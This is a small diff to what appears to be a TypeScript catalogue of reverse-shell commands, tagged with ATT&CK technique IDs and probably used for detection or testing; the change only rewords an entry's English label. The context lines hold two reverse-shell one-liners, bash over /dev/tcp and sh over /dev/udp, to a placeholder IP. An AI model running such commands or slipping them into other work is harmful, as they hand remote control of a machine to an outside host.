@@ -8,7 +8,7 @@ const ATTACK = ['T1059.004', 'T1071']
 const REVERSE: readonly Short[] = [
   [
     'CMD-001',
-    ['A shell at the end of a connection of bash', '经 /dev/tcp 的反弹 shell'],
+    ['A reverse shell over /dev/tcp', '经 /dev/tcp 的反弹 shell'],
     [
       'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
       'sh -i >& /dev/udp/203.0.113.7/53 0>&1',
